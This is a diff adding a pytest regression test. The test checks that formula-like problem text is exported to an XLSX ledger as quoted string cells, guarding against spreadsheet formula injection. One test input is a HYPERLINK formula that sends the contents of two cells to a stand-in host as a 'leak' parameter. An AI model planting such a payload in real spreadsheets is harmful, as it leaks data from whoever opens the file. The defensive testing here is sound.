@@ -8,6 +8,7 @@ from collections.abc import Iterator
 from io import BytesIO
 from typing import Any
 from uuid import uuid4
+from zipfile import ZipFile
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -279,3 +280,54 @@ def test_nul_characters_are_refused_and_the_views_keep_up(
         listed = api.ok(api.event(problems, None, {**data, "description": "会议多"}))
         ledger = api.get(f"/api/v1/campaigns/{campaign}/problems?min_position={listed['position']}")
         assert ledger.status_code == 200, ledger.get_json()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://example.invalid/?leak="&B5&C5,"详情")',
+        "+1+1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_text_that_looks_like_a_formula_is_exported_as_text(api: Api, text: str) -> None:
+    """A problem's text starting with ``=`` was a live formula in the exported ledger (issue 16
+    finding 5): whoever opened the workbook ran the poster's code. Such text is a string cell
+    with the quote prefix, exactly as posted, and the sheet holds no formula at all."""
+    campaign, branch = api.ids["campaign"], api.ids["b1"]
+    listed = api.event(
+        f"/api/v1/campaigns/{campaign}/branches/{branch}/problems",
+        None,
+        {
+            "category": "four_winds",
+            "description": text,
+            "measures": text,
+            "responsible_person": "p-0001",
+            "deadline": "2999-01-01",
+        },
+    )
+    assert listed.status_code == 201, listed.get_json()
+    runtime = api.app.extensions["taizhang"]
+    worker = Worker(runtime.settings, ledger=runtime.ledger)
+    try:
+        worker.catch_up()
+    finally:
+        worker.close()
+    response = api.get(f"/api/v1/campaigns/{campaign}/problems.xlsx")
+    assert response.status_code == 200
+    with ZipFile(BytesIO(response.data)) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = load_workbook(BytesIO(response.data)).active
+    # XML reads a raw CR back as LF; what matters is that the text is kept as text.
+    cells = [
+        cell
+        for row in sheet.iter_rows(min_row=4)
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.replace("\n", "\r") == text
+    ]
+    assert len(cells) == 2
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
